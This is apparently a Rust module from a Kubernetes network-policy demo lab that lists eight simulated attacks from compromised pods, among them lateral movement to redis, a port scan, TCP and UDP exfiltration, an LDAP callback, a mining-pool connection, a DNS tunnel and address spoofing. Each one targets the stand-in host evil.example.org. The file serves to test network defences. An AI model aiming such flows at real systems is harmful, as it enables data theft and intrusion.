//! The attacks the demo injects once the proposal is in place, each from the pod an
//! attacker would have compromised, against the shop or the attacker's host.

use std::net::{IpAddr, SocketAddr};

use crate::lab::{Family, Lab, attacks};

/// The attacker's host of the built-in shop.
const ATTACKER: &str = "evil.example.org";

/// An attack: what it is called, and how to run it (returns the pod it ran from and what
/// the attacker saw).
pub struct Attack {
    pub name: &'static str,
    pub run: fn(&Lab) -> anyhow::Result<(String, String)>,
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "lateral movement: frontend -> redis",
        run: lateral,
    },
    Attack {
        name: "port scan from a compromised pod",
        run: port_scan,
    },
    Attack {
        name: "exfiltration over TCP",
        run: exfiltrate_tcp,
    },
    Attack {
        name: "exfiltration over UDP",
        run: exfiltrate_udp,
    },
    Attack {
        name: "Log4Shell-style LDAP callback",
        run: ldap_callback,
    },
    Attack {
        name: "cryptominer to a mining pool",
        run: mining_pool,
    },
    Attack {
        name: "DNS tunnel to a new domain",
        run: dns_tunnel,
    },
    Attack {
        name: "spoofed source address",
        run: spoofed,
    },
];

fn first_pod(lab: &Lab, workload: &str) -> anyhow::Result<String> {
    lab.pods_of(workload)?
        .first()
        .map(|p| p.name.clone())
        .ok_or_else(|| anyhow::anyhow!("{workload} has no pods"))
}

fn attacker(lab: &Lab, family: Family) -> anyhow::Result<IpAddr> {
    lab.external(ATTACKER)?
        .addresses
        .iter()
        .copied()
        .find(|a| Family::of(*a) == family)
        .ok_or_else(|| anyhow::anyhow!("{ATTACKER} has no IPv{} address", family.number()))
}

/// What the attacker saw.
fn seen(o: &attacks::Outcome) -> String {
    format!(
        "{}/{} got through, {} timed out",
        o.succeeded, o.attempts, o.timed_out
    )
}

fn pod_ip(lab: &Lab, workload: &str) -> anyhow::Result<IpAddr> {
    let pod = lab.pod(&first_pod(lab, workload)?)?;
    Ok(pod.ipv4.into())
}

fn lateral(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/frontend")?;
    let o = attacks::lateral(lab, &from, pod_ip(lab, "shop/redis")?, 6379)?;
    Ok((from, seen(&o)))
}

fn port_scan(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/frontend")?;
    let target = pod_ip(lab, "shop/catalog")?;
    let ports = (8070..8090).chain([22, 80, 443, 3306, 5432, 6379, 9090]);
    let scan = attacks::port_scan(
        lab,
        &from,
        target,
        ports,
        std::time::Duration::from_millis(500),
    )?;
    let open: Vec<String> = scan.open().iter().map(u16::to_string).collect();
    Ok((
        from,
        format!(
            "{} ports, open: {}",
            scan.ports.len(),
            if open.is_empty() {
                "none".into()
            } else {
                open.join(", ")
            }
        ),
    ))
}

fn exfiltrate_tcp(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "payments/checkout")?;
    let target = SocketAddr::new(attacker(lab, Family::V4)?, 443);
    let o = attacks::exfiltrate_tcp(lab, &from, target, 64 * 1024)?;
    Ok((from, seen(&o)))
}

fn exfiltrate_udp(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "payments/checkout")?;
    let target = SocketAddr::new(attacker(lab, Family::V6)?, 9999);
    let o = attacks::exfiltrate_udp(lab, &from, target, 8, 512)?;
    Ok((from, seen(&o)))
}

fn ldap_callback(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/catalog")?;
    let o = attacks::ldap_callback(lab, &from, attacker(lab, Family::V4)?)?;
    Ok((from, seen(&o)))
}

fn mining_pool(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/redis")?;
    let o = attacks::mining_pool(lab, &from, attacker(lab, Family::V4)?, 3333)?;
    Ok((from, seen(&o)))
}

fn dns_tunnel(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/frontend")?;
    let server = SocketAddr::new(attacker(lab, Family::V4)?, 53);
    let o = attacks::dns_tunnel(lab, &from, server, "t.evil.example.org", 12)?;
    Ok((from, seen(&o)))
}

fn spoofed(lab: &Lab) -> anyhow::Result<(String, String)> {
    let from = first_pod(lab, "shop/frontend")?;
    // The catalog's address, as if the frontend were the catalog.
    let victim = pod_ip(lab, "shop/catalog")?;
    let target = SocketAddr::new(attacker(lab, Family::V4)?, 9999);
    let o = attacks::spoofed(lab, &from, victim, target)?;
    Ok((from, format!("{} packets sent as {victim}", o.attempts)))
}
